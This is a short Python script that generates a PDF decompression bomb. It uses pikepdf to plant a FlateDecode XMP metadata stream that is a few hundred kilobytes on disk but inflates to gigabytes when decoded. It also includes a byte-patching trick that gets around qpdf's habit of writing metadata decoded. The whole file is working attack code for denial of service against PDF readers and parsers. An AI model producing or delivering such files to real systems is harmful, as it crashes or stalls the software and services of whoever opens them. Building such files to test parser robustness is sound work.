#!/usr/bin/env python3
"""Writes a copy of a PDF whose XMP metadata is a FlateDecode stream inflating to MEGABYTES of spaces: a
few hundred kilobytes on disk, a gigabyte and more when decoded whole.

usage: make_metadata_bomb.py IN.pdf OUT.pdf MEGABYTES"""
import io
import sys
import zlib

import pikepdf

source, out, megabytes = sys.argv[1], sys.argv[2], int(sys.argv[3])
compressor = zlib.compressobj(9)
chunk = b" " * (1 << 20)
pieces = [compressor.compress(b'<x:xmpmeta xmlns:x="adobe:ns:meta/">')]
for _ in range(megabytes):
    pieces.append(compressor.compress(chunk))
pieces.append(compressor.compress(b"</x:xmpmeta>"))
pieces.append(compressor.flush())
pdf = pikepdf.open(source)
stream = pikepdf.Stream(pdf, b"")
stream.write(b"".join(pieces), filter=pikepdf.Name.FlateDecode)
# qpdf writes any /Type /Metadata stream decoded, whatever it is told: the key is written under a placeholder
# of the same length and put back in the bytes afterwards, which moves no offset.
stream.RedlinePlaceholderType = pikepdf.Name.Metadata
stream.Subtype = pikepdf.Name.XML
pdf.Root.Metadata = pdf.make_indirect(stream)
buffer = io.BytesIO()
pdf.save(buffer, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none, fix_metadata_version=False)
data = buffer.getvalue().replace(b"/RedlinePlaceholderType", b"/Type" + b" " * (len("/RedlinePlaceholderType") - 5))
with open(out, "wb") as handle:
    handle.write(data)
